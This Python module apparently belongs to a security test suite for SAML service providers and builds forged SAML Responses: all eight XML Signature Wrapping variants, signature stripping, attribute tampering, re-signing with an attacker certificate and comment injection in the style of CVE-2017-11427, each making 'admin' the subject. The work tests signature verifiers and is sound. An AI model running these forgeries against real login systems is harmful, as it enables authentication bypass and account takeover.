"""Attacks on a genuine signed ``<samlp:Response>``: wrapping, stripping, faking.

The XSW variants follow Somorovsky et al., "On Breaking SAML: Be Whoever You
Want to Be" (USENIX Security 2012), as catalogued by SAML Raider:

=====  ==========  ===================================================================
XSW1   Response    evil Response (root); the original Response, unsigned, inside the
                   original ``<ds:Signature>`` (which still references it)
XSW2   Response    as XSW1, the original Response a child of the evil one, before the
                   signature (detached signature)
XSW3   Assertion   an evil Assertion inserted before the signed one
XSW4   Assertion   the evil Assertion replaces the signed one and wraps it as a child
XSW5   Assertion   the evil Assertion keeps the signature; an unsigned copy of the
                   original is appended at the end of the Response
XSW6   Assertion   as XSW5, the copy inside the evil Assertion's ``<ds:Signature>``
XSW7   Assertion   the original in ``<samlp:Extensions>``, the evil one in its place
XSW8   Assertion   as XSW6, the copy inside a ``<ds:Object>`` of the signature
=====  ==========  ===================================================================

Each variant comes with ``same_id`` (the evil element keeps the original ID, the
``getElementById`` confusion) or a fresh ID.  Every evil element names the
attacker as subject (:data:`ATTACKER_UID`, :data:`ATTACKER_NAME_ID`).
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"

ATTACKER_UID = "admin"
ATTACKER_NAME_ID = "attacker-chosen-subject"
EVIL_ID = "id-evil0000000000000000"

_ASSERTION = f"{{{SAML}}}Assertion"
_SIGNATURE = f"{{{DS}}}Signature"


def parse(xml: str | bytes) -> etree._Element:
    return etree.fromstring(xml.encode("utf-8") if isinstance(xml, str) else xml)


def serialize(root: etree._Element) -> str:
    return etree.tostring(root, encoding="unicode")


def assertion_of(root: etree._Element) -> etree._Element:
    return root.find(_ASSERTION)


def strip_signature(element: etree._Element) -> etree._Element:
    """Remove the element's own (enveloped) signature; returns the element."""
    for signature in element.findall(_SIGNATURE):
        element.remove(signature)
    return element


def make_evil(element: etree._Element) -> etree._Element:
    """Rewrite subject and ``uid`` in *element* (an Assertion or a Response) to the attacker."""
    for name_id in element.iter(f"{{{SAML}}}NameID"):
        name_id.text = ATTACKER_NAME_ID
    for attribute in element.iter(f"{{{SAML}}}Attribute"):
        if (attribute.get("FriendlyName") == "uid"
                or attribute.get("Name") in ("uid", "urn:oid:0.9.2342.19200300.100.1.1")):
            for value in attribute.findall(f"{{{SAML}}}AttributeValue"):
                value.text = ATTACKER_UID
    return element


def _evil_clone(element: etree._Element, *, same_id: bool, keep_signature: bool) -> etree._Element:
    evil = make_evil(copy.deepcopy(element))
    if not keep_signature:
        strip_signature(evil)
    if not same_id:
        evil.set("ID", EVIL_ID + element.tag.rpartition("}")[2])
    return evil


def _insert_after_issuer(parent: etree._Element, child: etree._Element) -> None:
    issuer = parent.find(f"{{{SAML}}}Issuer")
    parent.insert(parent.index(issuer) + 1 if issuer is not None else 0, child)


# -- Response signature (XSW1, XSW2) -------------------------------------------------------


def xsw1(xml: str, *, same_id: bool = False) -> str:
    response = parse(xml)
    original = strip_signature(copy.deepcopy(response))
    evil = _evil_clone(response, same_id=same_id, keep_signature=True)
    evil.find(_SIGNATURE).append(original)
    return serialize(evil)


def xsw2(xml: str, *, same_id: bool = False) -> str:
    response = parse(xml)
    original = strip_signature(copy.deepcopy(response))
    evil = _evil_clone(response, same_id=same_id, keep_signature=True)
    signature = evil.find(_SIGNATURE)
    evil.insert(evil.index(signature), original)
    return serialize(evil)


# -- Assertion signature (XSW3 – XSW8) -----------------------------------------------------


def xsw3(xml: str, *, same_id: bool = False) -> str:
    response = parse(xml)
    original = assertion_of(response)
    evil = _evil_clone(original, same_id=same_id, keep_signature=False)
    response.insert(response.index(original), evil)
    return serialize(response)


def xsw4(xml: str, *, same_id: bool = False) -> str:
    response = parse(xml)
    original = assertion_of(response)
    evil = _evil_clone(original, same_id=same_id, keep_signature=False)
    response.replace(original, evil)
    evil.append(original)
    return serialize(response)


def xsw5(xml: str, *, same_id: bool = True) -> str:
    response = parse(xml)
    original = assertion_of(response)
    unsigned_copy = strip_signature(copy.deepcopy(original))
    evil = _evil_clone(original, same_id=same_id, keep_signature=True)
    response.replace(original, evil)
    response.append(unsigned_copy)
    return serialize(response)


def xsw6(xml: str, *, same_id: bool = True) -> str:
    response = parse(xml)
    original = assertion_of(response)
    unsigned_copy = strip_signature(copy.deepcopy(original))
    evil = _evil_clone(original, same_id=same_id, keep_signature=True)
    response.replace(original, evil)
    evil.find(_SIGNATURE).append(unsigned_copy)
    return serialize(response)


def xsw7(xml: str, *, same_id: bool = False) -> str:
    response = parse(xml)
    original = assertion_of(response)
    evil = _evil_clone(original, same_id=same_id, keep_signature=False)
    response.replace(original, evil)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(original)
    _insert_after_issuer(response, extensions)
    return serialize(response)


def xsw8(xml: str, *, same_id: bool = True) -> str:
    response = parse(xml)
    original = assertion_of(response)
    unsigned_copy = strip_signature(copy.deepcopy(original))
    evil = _evil_clone(original, same_id=same_id, keep_signature=True)
    response.replace(original, evil)
    obj = etree.SubElement(evil.find(_SIGNATURE), f"{{{DS}}}Object")
    obj.append(unsigned_copy)
    return serialize(response)


RESPONSE_WRAPPING: dict[str, Callable[..., str]] = {"XSW1": xsw1, "XSW2": xsw2}
ASSERTION_WRAPPING: dict[str, Callable[..., str]] = {
    "XSW3": xsw3, "XSW4": xsw4, "XSW5": xsw5, "XSW6": xsw6, "XSW7": xsw7, "XSW8": xsw8,
}


# -- stripping, tampering, faking ----------------------------------------------------------


def strip_all_signatures(xml: str) -> str:
    root = parse(xml)
    for signature in list(root.iter(_SIGNATURE)):
        signature.getparent().remove(signature)
    return serialize(root)


def strip_assertion_signature(xml: str) -> str:
    root = parse(xml)
    strip_signature(assertion_of(root))
    return serialize(root)


def tamper_attribute(xml: str) -> str:
    """Change the ``uid`` value inside the signed assertion, signatures untouched."""
    root = parse(xml)
    for attribute in assertion_of(root).iter(f"{{{SAML}}}Attribute"):
        if attribute.get("FriendlyName") == "uid" or attribute.get("Name") == "urn:oid:0.9.2342.19200300.100.1.1":
            attribute.find(f"{{{SAML}}}AttributeValue").text = ATTACKER_UID
            return serialize(root)
    raise AssertionError("no uid attribute in the response")


def resign(xml: str, sign_element: Callable[[str, str, str], str], *, response_too: bool) -> str:
    """Make the assertion evil and re-sign it (and the Response) with *sign_element*.

    *sign_element(xml, node_name, node_id)* signs the template of that node; the
    templates keep their ``<ds:KeyInfo>``, whose certificate the caller replaced.
    """
    root = parse(xml)
    make_evil(assertion_of(root))
    xml = serialize(root)
    xml = sign_element(xml, f"{SAML}:Assertion", assertion_of(root).get("ID"))
    if response_too:
        xml = sign_element(xml, f"{SAMLP}:Response", root.get("ID"))
    return xml


def replace_key_info_certificates(xml: str, cert_base64: str) -> str:
    """Put *cert_base64* in every ``<ds:X509Certificate>`` (the attacker's certificate)."""
    root = parse(xml)
    for cert in root.iter(f"{{{DS}}}X509Certificate"):
        cert.text = cert_base64
    return serialize(root)


def node_used_by_pysaml2(xml: str, node_name: str) -> str | None:
    """The ID of the element pysaml2 reads for *node_name*: the document element
    (Response) or the first Assertion child of the Response (``response.assertion[0]``)."""
    root = parse(xml)
    if node_name.endswith(":Response"):
        return root.get("ID")
    assertion = assertion_of(root)
    return assertion.get("ID") if assertion is not None else None


def sign_raw(xml: str, key_pem: bytes, *, signed_id: str, reference_uri: str | None = None,
             transforms: tuple = (), c14n=None, sign_method=None, digest=None,
             cert_base64: str | None = None, place_in: str | None = None, extra_reference_uri: str | None = None,
             register_ids: tuple[str, ...] = ("ID",)) -> str:
    """Sign with libxmlsec1 directly, bypassing every policy check of the backend under test.

    Builds a ``<ds:Signature>`` inside the element whose ``ID`` is *place_in*
    (default: *signed_id*), right after its ``<saml:Issuer>``, referencing
    *reference_uri* (default ``#<signed_id>``) with the given algorithms, and
    signs it with *key_pem*.  Used to produce cryptographically valid documents
    that break the SAML signature profile.
    """
    import xmlsec

    root = parse(xml)
    holder = root.xpath("//*[@ID=$id]", id=place_in or signed_id)[0]
    signature = xmlsec.template.create(
        root, c14n or xmlsec.Transform.EXCL_C14N, sign_method or xmlsec.Transform.RSA_SHA256, ns="ds")
    _insert_after_issuer(holder, signature)
    uris = [reference_uri if reference_uri is not None else f"#{signed_id}"]
    if extra_reference_uri is not None:
        uris.append(extra_reference_uri)
    for uri in uris:
        reference = xmlsec.template.add_reference(signature, digest or xmlsec.Transform.SHA256, uri=uri)
        for transform in transforms or (xmlsec.Transform.ENVELOPED, xmlsec.Transform.EXCL_C14N):
            xmlsec.template.add_transform(reference, transform)
    if cert_base64:
        key_info = xmlsec.template.ensure_key_info(signature)
        x509_data = xmlsec.template.add_x509_data(key_info)
        etree.SubElement(x509_data, f"{{{DS}}}X509Certificate").text = cert_base64
    ctx = xmlsec.SignatureContext()
    ctx.key = xmlsec.Key.from_memory(key_pem, xmlsec.KeyFormat.PEM)
    for element in root.iter():
        for attribute in register_ids:
            if element.get(attribute) is not None:
                ctx.register_id(element, attribute)
    ctx.sign(signature)
    return serialize(root)


def make_evil_xml(xml: str) -> str:
    """:func:`make_evil` on a whole document."""
    return serialize(make_evil(parse(xml)))


def insert_comment(xml: str, tag: str, after: str, *, comment: str = "") -> str:
    """``<!---->`` inside the first ``saml:<tag>`` of the (signed) *xml*, just after the text *after*.

    Exclusive c14n drops comments, so every signature still verifies; lxml's ``.text``
    of ``bob<!---->.attacker`` is ``bob`` (CVE-2017-11427 and its kind).
    """
    root = parse(xml)
    element = next(root.iter(f"{{{SAML}}}{tag}"))
    text = element.text or ""
    assert after in text and len(element) == 0, (tag, after, text)
    cut = text.index(after) + len(after)
    element.text = text[:cut]
    node = etree.Comment(comment)
    node.tail = text[cut:]
    element.append(node)
    return serialize(root)
